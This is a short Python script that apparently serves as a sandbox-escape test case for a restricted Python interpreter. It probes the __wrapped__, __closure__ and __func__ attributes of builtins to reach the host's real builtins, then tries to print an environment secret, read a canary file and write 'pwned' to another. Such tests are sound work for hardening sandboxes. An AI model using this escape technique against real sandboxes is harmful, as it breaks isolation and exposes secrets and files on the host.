# attack: __wrapped__ and __closure__ of a wrapped builtin, to reach the implementation's cells (the runtime, the real builtins)
reached = []


def loot(b):
    """Given the host's builtins (module or dict): keep it as the result, steal both secrets."""
    reached.append(b)
    try:
        if not isinstance(b, dict):
            b = getattr(b, "__dict__")
        ga = b["getattr"]
        os = b["__import__"]("os")
        print(ga(os, "environ")["MONTY_CANARY_SECRET"])
        print(ga(b["open"](canary_path), "read")())
        ga(b["open"](canary_write_path, "w"), "write")("pwned")
    except Exception as err:
        print("loot stopped:", type(err).__name__)


def loot_globals(g):
    """Given a host function's globals: loot its builtins."""
    reached.append(g)
    loot(g["__builtins__"])


for fn in (sum, print, getattr, setattr, sorted, iter, eval):
    for name in ("__wrapped__", "__closure__", "__func__"):
        try:
            value = getattr(fn, name)
        except AttributeError as err:
            print(name, type(err).__name__)
            continue
        reached.append(value)
        for cell in value if isinstance(value, tuple) else [value]:
            inner = getattr(cell, "cell_contents", cell)
            reached.append(inner)
            loot_globals(getattr(inner, "__globals__"))
reached
